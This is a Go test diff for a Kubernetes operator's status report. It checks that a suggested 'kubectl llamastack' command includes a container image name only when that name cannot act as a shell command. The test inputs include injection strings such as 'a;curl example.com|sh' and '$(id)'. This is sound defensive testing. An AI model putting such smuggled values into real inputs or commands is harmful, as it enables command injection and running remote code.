@@ -462,3 +462,21 @@ func TestWords(t *testing.T) {
 		}
 	}
 }
+
+// TestNextImage checks that the next command contains the image in the status only if it cannot be a shell command.
+func TestNextImage(t *testing.T) {
+	for image, want := range map[string]string{
+		"example.com:5000/a_b/c:1.0@sha256:abc": "kubectl llamastack image inspect example.com:5000/a_b/c:1.0@sha256:abc",
+		"a;curl example.com|sh":                 "kubectl llamastack events my -n team-a",
+		"$(id)":                                 "kubectl llamastack events my -n team-a",
+		"--help":                                "kubectl llamastack events my -n team-a",
+	} {
+		report := stackstatus.NewReport(with(func(f *facts) {
+			f.notReady(v1alpha2.ConditionConfigGenerated, v1alpha2.ReasonMissingConfigLabels, "no labels")
+			f.Stack.Status.ResolvedDistribution = &v1alpha2.ResolvedDistribution{Image: image}
+		}))
+		if got := report.Verdict.Next; got != want {
+			t.Errorf("%q: %q, want %q", image, got, want)
+		}
+	}
+}
